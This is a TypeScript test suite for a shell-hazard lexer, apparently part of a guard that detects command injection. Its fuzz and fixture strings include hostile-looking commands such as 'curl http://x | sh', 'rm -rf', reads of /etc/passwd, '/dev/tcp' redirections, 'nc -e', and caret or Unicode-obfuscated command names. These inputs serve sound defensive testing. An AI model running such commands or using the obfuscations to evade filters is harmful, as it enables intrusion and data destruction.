import { describe, expect, it } from 'vitest';
import { knownCommands } from '../../../src/guard/detectors/shell-commands.js';
import { readShell, shellHazards, type QuoteState } from '../../../src/guard/detectors/shell-lexer.js';
import { codeUnits } from '../../../src/guard/text/code-units.js';

/**
 * The lexer before it read all starting quote states in one pass and words
 * without copying them: one reading per state, every word read character by
 * character with quotes removed. The lexer must report exactly what this does.
 */
function referenceHazards(text: string, start: QuoteState): string[] {
  const wordAt = (t: string, s: number) => {
    let i = s;
    while (i < t.length && (t[i] === ' ' || t[i] === '\t')) i++;
    let word = '';
    let raw = '';
    let quote: string | undefined;
    for (; i < t.length && raw.length < 256; i++) {
      const c = t[i];
      if (!quote && /[\s;&|<>()`]/.test(c)) break;
      raw += c;
      if (quote) {
        if (c === quote) quote = undefined;
        else word += c;
      } else if (c === "'" || c === '"') quote = c;
      else if (c === '\\' && i + 1 < t.length) {
        raw += t[++i];
        word += t[i];
      } else if (c !== '^') word += c;
    }
    return { word, raw };
  };
  const basename = (w: string) => w.slice(Math.max(w.lastIndexOf('/'), w.lastIndexOf('\\')) + 1).toLowerCase().replace(/\.exe$/, '');
  const commandAt = (t: string, i: number) => {
    const { word, raw } = wordAt(t, i);
    if (word.length === 0) return undefined;
    if (/^\$/.test(raw)) return raw.slice(0, 12);
    if (/^(?:\/|\.{1,2}\/|~\/)/.test(word)) return word.slice(0, 24);
    return knownCommands.has(basename(word)) ? basename(word) : undefined;
  };
  const commandAfter = (t: string, i: number) => {
    const { raw } = wordAt(t, i);
    return /^[$`({]/.test(raw) ? raw.slice(0, 12) : commandAt(t, i);
  };
  const redirectTarget = (t: string, i: number, input: boolean) => {
    const { word } = wordAt(t, i);
    if (/^\/dev\/(?:tcp|udp)\//.test(word)) return 'a network socket';
    if (/^(?:\d+|-|\/dev\/(?:null|stdout|stderr))$/.test(word) || word.includes('://')) return undefined;
    if (input) return /^[/~$]|^\.{1,2}\//.test(word) ? 'a file' : undefined;
    return /^[/~.$]|[/\\.]/.test(word) ? 'a file' : undefined;
  };
  const hazards = new Set<string>();
  let state = start;
  let inBackticks = false;
  let openTag = -1;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    const next = text[i + 1];
    if (state === 'single') {
      if (c === "'") state = 'unquoted';
      continue;
    }
    if (c === '\\') {
      i++;
      continue;
    }
    if (c === '$' && next === '(') hazards.add('command substitution $(...)');
    else if (c === '$' && next === '{') hazards.add('parameter expansion ${...}');
    else if (c === '`' && !inBackticks) {
      const close = text.indexOf('`', i + 1);
      const command = close > i + 1 ? commandAt(text.slice(i + 1, close), 0) : undefined;
      if (command) hazards.add(`backtick command substitution ('${command}')`);
      inBackticks = close > i;
    } else if (c === '`') inBackticks = false;
    if (state === 'double') {
      if (c === '"') state = 'unquoted';
      continue;
    }
    if (c === "'") state = 'single';
    else if (c === '"') state = 'double';
    else if ((c === '<' || c === '>') && next === '(') {
      const command = commandAt(text, i + 2);
      if (command) hazards.add(`process substitution ${c}(${command} ...)`);
      i++;
    } else if (c === ';' || c === '\n' || c === '\r' || c === '|' || c === '&') {
      const operator = (c === '|' || c === '&') && next === c ? c + c : c;
      if (c === '&' && (text[i - 1] === '>' || next === '>')) continue;
      const command = commandAfter(text, i + operator.length);
      if (command) hazards.add(`${operator === '\n' || operator === '\r' ? 'newline' : `'${operator}'`} then '${command}'`);
      i += operator.length - 1;
    } else if (c === '>' || c === '<') {
      if (c === '<' && /[A-Za-z/!]/.test(next ?? '')) {
        openTag = i;
        continue;
      }
      if (c === '>' && openTag >= 0 && !text.slice(openTag, i).includes('\n')) {
        openTag = -1;
        continue;
      }
      if (next === '=' || (c === '>' && (text[i - 1] === '-' || text[i - 1] === '='))) continue;
      let operator = next === c ? c + c : c;
      if (text[i + operator.length] === '&') operator += '&';
      const target = redirectTarget(text, i + operator.length, c === '<');
      if (target) hazards.add(`redirection '${operator}' to ${target}`);
      i += operator.length - 1;
    }
  }
  return [...hazards];
}

/** Commands in every spelling the lexer reads (case, .exe, paths, quotes, carets, look-alikes), operators, quotes, markup. */
const pieces = [
  'rm', 'RM', 'curl', 'Curl.EXE', 'cmd.exe', '/bin/sh', './run', '../x', '~/bin/x', 'C:\\Windows\\System32\\cmd.exe', 'usr/bin/nc', 'c\\at', "'c'a\"t\"",
  'p^o^w^e^r^s^h^e^l^l', '\u212Aill', 'invoke-webrequest', 'python3', 'x.exe', '.exe', 'ls', 'more', 'make', '$HOME', '${x}', '$(id)', '{cat,/etc/passwd}',
  ';', '&&', '||', '|', '&', '\n', '\r\n', '>', '>>', '>&', '&>', '2>&1', '< /etc/passwd', '> /dev/null', '>/dev/tcp/h/1', '<(', '>(', '->', '=>', '>=', '<=',
  '`', '`rm -rf`', '``', "'", '"', '\\', '\\\n', '<img src=x>', '</a>', '<v4.8', 'a://b', '5', '-', '\u00A0', '\u3000', 'é', '\t', '  ',
  '\uD800', '\uDC00', '\uFF1B', '\uFE54', '\uFF5E',
  '"rm"', "'/usr/bin/nc'", '"c"md.EXE', '"./x"', '\u0130d', '"\u212Aill"', '"sh"\\', "'a/b/'", '"a\\"b', "'.exe'", 'x.e\u212Ae', '"{a}"', '"$x"',
  '"Ｓh"', 'к\'', 'ｉｇｎｏｒｅ', '\uFF1B\uFF1B', '名"前"', '\\\\rm', '"rm\\x"', "c'a't.ExE",
];
const fillers = ['Tom', 'and', 'Jerry', 'costs', '$5', 'x', 'notes.md', 'a'.repeat(300)];

function randomTexts(count: number): string[] {
  let seed = 41;
  const random = () => (seed = (seed * 1103515245 + 12345) % 2 ** 31) / 2 ** 31;
  const pick = <T>(xs: T[]) => xs[Math.floor(random() * xs.length)];
  return Array.from({ length: count }, () => {
    const parts: string[] = [];
    const size = 200 + Math.floor(random() * 3000);
    while (parts.join('').length < size) parts.push(random() < 0.65 ? pick(pieces) : pick(fillers), random() < 0.5 ? ' ' : '');
    return parts.join('');
  });
}

describe('the shell lexer', () => {
  const states: QuoteState[] = ['unquoted', 'single', 'double'];

  it('reads every starting quote state in one pass as separate character-by-character readings do', () => {
    let found = 0;
    for (const text of randomTexts(400)) {
      const expected = states.map((state) => referenceHazards(text, state));
      found += expected.flat().length;
      expect(readShell(text, states, knownCommands).hazards.map((hazards) => hazards.map((h) => h.description))).toEqual(expected);
    }
    expect(found).toBeGreaterThan(2000);
  });

  it('reads a long text, from its code units as given or copied, as the reference does', () => {
    const text = randomTexts(60).join('\n');
    expect(text.length).toBeGreaterThan(64 * 1024);
    const expected = states.map((state) => referenceHazards(text, state));
    expect(readShell(text, states, knownCommands, codeUnits(text)).hazards.map((hazards) => hazards.map((h) => h.description))).toEqual(expected);
    expect(readShell(text, states, knownCommands).hazards.map((hazards) => hazards.map((h) => h.description))).toEqual(expected);
  });

  it('turns down the same words after operators with the rule-outs of the kernel as the lexer does without them', () => {
    // Another set of the same names has no kernel tables: every word after an operator is read by the lexer itself.
    const sameNames = new Set(knownCommands);
    const shapes = ['"name": "x",', '"a",', '"accepts"', '  "Jon Ong <j@x.com> (http://x.com)"', '{', '},', '"\u212Aill":', '"./x":', "'sh',", '\t"x":',
      '名前', '名前/rm', 'ab/名', 'Żółw', 'ü/cat', '\u00A0rm', '\u212Aill', 'x.exe', 'C.EXE', 'a'.repeat(40), `"${'b'.repeat(300)}"`, 'cat', 'catx', '"c"at', "c'a't",
      '$HOME', '$(id)', '$', '${x}', '||', '&&', '|||', '&&&', '>&', '&>', '>&&', '\\', '\\"', '""', "''", '"\'"', '\n', '\r\n', '; ', ';\t', '  '];
    let seed = 7;
    const random = () => (seed = (seed * 1103515245 + 12345) % 2 ** 31) / 2 ** 31;
    const pick = <T>(xs: T[]) => xs[Math.floor(random() * xs.length)];
    const operators = ['\n', ';', '|', '&', '||', '&&', '\n    ', '\r\n  ', '| ', '&& '];
    let found = 0;
    for (let t = 0; t < 300; t++) {
      let text = '';
      while (text.length < 400) text += pick(random() < 0.4 ? operators : shapes) + (random() < 0.3 ? ' ' : '');
      const expected = readShell(text, states, sameNames).hazards;
      found += expected.flat().length;
      expect(readShell(text, states, knownCommands).hazards).toEqual(expected);
    }
    expect(found).toBeGreaterThan(300);
  });

  it('reads doubled operators some readers start inside of (after an escape or a redirection) as the reference does', () => {
    for (const text of ['x\\||| rm', 'x\\&&& rm', 'x>>||| rm', 'x>&&& rm', "'\\||| rm'", '"\\&&&;rm"', 'x\\|| rm', 'x\\||\n||rm', 'a\\"" rm']) {
      const expected = states.map((state) => referenceHazards(text, state));
      expect(readShell(text, states, knownCommands).hazards.map((hazards) => hazards.map((h) => h.description))).toEqual(expected);
    }
  });

  it('closes a tag only on the line it opened on, whichever line breaks the kernel drops', () => {
    const read = (text: string) => shellHazards(text, 'unquoted', knownCommands).map((h) => h.description);
    expect(read('<a href=x\nhello > out.txt')).toEqual(["redirection '>' to a file"]);
    expect(read('<a href=x hello > out.txt')).toEqual([]);
    expect(read('x\n\n<b\n\n<i x > y.txt\nz > w.txt')).toEqual(["redirection '>' to a file"]);
    expect(read(`<p${'x'.repeat(70000)}\n>a.b`)).toEqual(["redirection '>' to a file"]);
  });

  it('reads operators, quotes and escapes that straddle the blocks of the kernel as the reference does', () => {
    for (const piece of ['||', '&&', '""', "''", '\\"', '\\\'', '>>&', '\n rm', '"a"', '$(', '|| rm', '&&\n', '`rm`', '<(rm']) {
      for (let shift = 0; shift < 5; shift++) {
        const text = `${'x'.repeat(65536 - shift)}${piece} "q" ${piece}; ls`;
        const expected = states.map((state) => referenceHazards(text, state));
        expect(readShell(text, states, knownCommands).hazards.map((hazards) => hazards.map((h) => h.description))).toEqual(expected);
      }
    }
  });

  it('reads special characters at the first and last position, in texts of odd and even length', () => {
    const read = (text: string) => shellHazards(text, 'unquoted', knownCommands).map((h) => h.description);
    for (const pad of ['', 'x']) {
      expect(read(`${pad}$(`)).toEqual(['command substitution $(...)']);
      expect(read(`$(${pad}`)).toEqual(['command substitution $(...)']);
      expect(read(`${pad};rm`)).toEqual(["';' then 'rm'"]);
      expect(read(`${pad}x;`)).toEqual([]);
      expect(read(`${pad}'$(`)).toEqual([]);
      expect(read(`${pad}\\$(`)).toEqual([]);
      expect(read(`${pad}>`)).toEqual([]);
      expect(read(`${pad}\r\nrm`)).toEqual(["newline then 'rm'"]);
    }
    expect(readShell('', states, knownCommands)).toEqual({ hazards: [[], [], []], compatibilityForms: [] });
  });

  it('reads lone surrogates and other non-ASCII characters next to special ones as ordinary characters', () => {
    const read = (text: string) => shellHazards(text, 'unquoted', knownCommands).map((h) => h.description);
    expect(read('\uD800;rm\uDC00')).toEqual([]); // "rm\uDC00" is not rm
    expect(read('\uD800; rm \uDC00')).toEqual(["';' then 'rm'"]);
    expect(read('\uDC00$(\uD800')).toEqual(['command substitution $(...)']);
    expect(read('é|curl')).toEqual(["'|' then 'curl'"]);
    expect(read('\uFF1B rm')).toEqual([]); // a full-width semicolon is no operator until normalized
  });

  it('ends a plain, quoted or escaped word at every white space character and no other, as the reference does', () => {
    const endingPlain: number[] = [];
    const endingQuoted: number[] = [];
    const endingEscaped: number[] = [];
    const expected: number[] = [];
    for (let code = 0; code < 0x10000; code++) {
      const c = String.fromCharCode(code);
      if (shellHazards(`x;rm${c}x`, 'unquoted', knownCommands).some((h) => h.description === "';' then 'rm'")) endingPlain.push(code);
      if (shellHazards(`x;"r"m${c}x`, 'unquoted', knownCommands).length > 0) endingQuoted.push(code);
      if (shellHazards(`x;\\rm${c}x`, 'unquoted', knownCommands).length > 0) endingEscaped.push(code);
      if (/[\s;&|<>()`]/.test(c)) expected.push(code);
    }
    expect(endingPlain).toEqual(expected);
    expect(endingQuoted).toEqual(expected);
    expect(endingEscaped).toEqual(expected);
  });

  it('relies on lower-casing never shortening a text, nor turning anything but the Kelvin sign into ASCII only', () => {
    const shortening: number[] = [];
    const intoAscii: number[] = [];
    for (let point = 0x80; point <= 0x10ffff; point++) {
      const char = String.fromCodePoint(point);
      const lower = char.toLowerCase();
      if (lower.length < char.length) shortening.push(point);
      if (/^[\x00-\x7f]*$/.test(lower)) intoAscii.push(point);
    }
    expect(shortening).toEqual([]);
    expect(intoAscii).toEqual([0x212a]);
    expect(shellHazards('x;"\u212Aill"', 'unquoted', knownCommands).map((h) => h.description)).toEqual(["';' then 'kill'"]);
    expect(shellHazards("x;\u212A'i'LL.E\u212Ae", 'unquoted', knownCommands)).toEqual([]); // "kill.eke"
    expect(shellHazards("x;\u212A'i'LL.EXE", 'unquoted', knownCommands).map((h) => h.description)).toEqual(["';' then 'kill'"]);
  });

  it('finds the full-width and small forms of ASCII characters, wherever they stand, as spans of consecutive ones', () => {
    const forms = (text: string) => readShell(text, ['unquoted'], knownCommands).compatibilityForms;
    const expected = (text: string) => [...text.matchAll(/[\uFE50-\uFE6B\uFF01-\uFF5E]+/g)].map((match) => [match.index, match.index + match[0].length]);
    expect(forms('\uFF1B')).toEqual([[0, 1]]);
    expect(forms('x\uFF1B')).toEqual([[1, 2]]);
    expect(forms('\uFE4F\uFE50\uFE6B\uFE6C\uFF00\uFF01\uFF5E\uFF5F')).toEqual([[1, 3], [5, 7]]);
    expect(forms("'\uFF1B'\\\uFF04")).toEqual([[1, 2], [4, 5]]); // quoted or escaped alike
    expect(forms('\uFF49\uFF47\uFF4E;\uFF4F\uFF52\uFF45x')).toEqual([[0, 3], [4, 7]]);
    for (const text of randomTexts(100)) expect(forms(text)).toEqual(expected(text));
  });

  it('reads commands in plain words and in quoted, escaped or non-ASCII ones alike', () => {
    const read = (text: string) => shellHazards(text, 'unquoted', knownCommands).map((h) => h.description);
    expect(read('x; CURL.EXE http://a')).toEqual(["';' then 'curl'"]);
    expect(read('x; "C:\\Windows\\System32\\CMD.EXE" /c x')).toEqual(["';' then 'cmd'"]);
    expect(read('x; /usr/bin/env')).toEqual(["';' then '/usr/bin/env'"]);
    expect(read('x; usr/bin/nc -e')).toEqual(["';' then 'nc'"]);
    expect(read('x;\u212Aill 1')).toEqual(["';' then 'kill'"]);
    expect(read('x && ${IFS}')).toEqual(["'&&' then '${IFS}'", 'parameter expansion ${...}']);
    expect(read('x; rmx; make; Tom & Jerry')).toEqual([]);
  });

  it('reads quoted ASCII words, non-ASCII words and words near the 256-character reach as the reference does', () => {
    const words = [
      '"rm":', '"rm"', "'rm'", '"rM"x', '"kill"', '"a"/rm', '"a/"rm', "'a'\\rm", '"rm":x', '"rm"\'', '""rm', '"rm', "'rm", '"curl.exe"', '"curl.ex"', '"CURL.EXE"',
      '"\u0000rm"', '\u0000rm', 'rm\u0000', '"r m"', '"r^m"', 'r^m', '"\u212Aill"', '\u212Aill', '"ls"e', '".exe"', '"x.exe"', 'é/"sh"', '"rm\uDC00"', '\uD800/rm',
      '名前', '名前/rm', '名前\\\\rm', '名前\\rm', '"名"rm', '名"/"rm', '名\u3000rm', '名 rm', '名;rm', '~名/rm', '.名/rm', '/名',
      `${'x'.repeat(250)}/rm`, `${'名'.repeat(253)}/rm`, `${'名'.repeat(254)}/rm`, `${'名'.repeat(255)}/rm`, `${'名'.repeat(254)}\\\\rm`, `"${'a'.repeat(30)}"`,
      '"./rm":', '"../rm":', '"~/rm",', '"/bin/sh":', '"a/rm":', '"ab":', '"abcd":x', '"rmdir":e', '"curl";', '"名前":', '"a\\"b":', "'./x',", '"~x/y":', '".x/y":',
      `"${'a'.repeat(252)}":`, `"${'a'.repeat(253)}":`, `"${'a'.repeat(254)}":`,
      `${'a'.repeat(21)}/rm`, `${'a'.repeat(22)}名/rm`, `"${'a'.repeat(254)}"rm`, `'${'名'.repeat(300)}'`,
    ];
    for (const word of words) {
      for (const operator of [';', '\n', '\r\n', '| ', '`']) {
        for (const [before, after] of [['', ''], ['x', ' x'], ['名', ':'], ['', '\r\n'], ['x', '`']]) {
          const text = `${before}${operator}${word}${after}`;
          const expected = states.map((state) => referenceHazards(text, state));
          expect(readShell(text, states, knownCommands).hazards.map((hazards) => hazards.map((h) => h.description)), text).toEqual(expected);
        }
      }
    }
  });

  it('finds every known command in any case, with or without .exe, and no word one letter longer', () => {
    const read = (text: string) => shellHazards(text, 'unquoted', knownCommands).map((h) => h.description);
    for (const name of knownCommands) {
      expect(read(`x; ${name.toUpperCase()} a`)).toEqual([`';' then '${name}'`]);
      expect(read(`x;\n${name}.Exe`)).toEqual([`newline then '${name}'`]);
      expect(read(`x; ${name}s`)).toEqual(knownCommands.has(`${name}s`) ? [`';' then '${name}s'`] : []);
    }
  });

  it('reads JSON documents (keys, paths, escapes, nesting) as the reference does', () => {
    const document = {
      name: 'x', bin: { rm: './bin/rm.js', 'curl.exe': 'c' }, exports: { './lib/*': './lib/*.js', '.': { import: './index.mjs' } },
      scripts: { test: 'rm -rf dist && tsc; curl http://x | sh', 'pre\\"x': '$(id) `whoami` ${HOME}' }, files: ['lib/', 'sh', '/etc/passwd'],
      '名前': 'ｒｍ；ｌｓ', "it's": "'quoted' \"twice\"",
    };
    for (const text of [JSON.stringify(document), JSON.stringify(document, null, 2), JSON.stringify(document, null, '\t').replace(/\n/g, '\r\n')]) {
      const expected = states.map((state) => referenceHazards(text, state));
      expect(readShell(text, states, knownCommands).hazards.map((hazards) => hazards.map((h) => h.description))).toEqual(expected);
    }
  });

  it('reads quotes closed right away, escaped or after a skipped character, as the reference does', () => {
    const texts = [
      '""; rm', "''; rm", '\\""; rm', '"\\"; rm"', "\\''; rm'", '\'"\'"\'; rm', '"\'"\'; rm', '>""; rm', '||""rm', '&&\'\'rm', '"" "" ; rm', '"";rm"";rm',
      '`"`"; rm', '$""(id)', '<(""rm)', '2>&""1; rm', '\\\\""; rm', '"x"\n"y"\nrm', "'x'\n'y'\nrm", '""', "''", '"', '\\"',
    ];
    for (const text of texts) {
      const expected = states.map((state) => referenceHazards(text, state));
      expect(readShell(text, states, knownCommands).hazards.map((hazards) => hazards.map((h) => h.description)), text).toEqual(expected);
    }
  });

  it('forgets a tag once a line ends, however many brackets follow', () => {
    expect(shellHazards('<a title\n> /tmp/x >> /tmp/y', 'unquoted', knownCommands).map((h) => h.description)).toEqual([
      "redirection '>' to a file",
      "redirection '>>' to a file",
    ]);
    expect(shellHazards('<a title > /tmp/x', 'unquoted', knownCommands)).toEqual([]);
  });
});
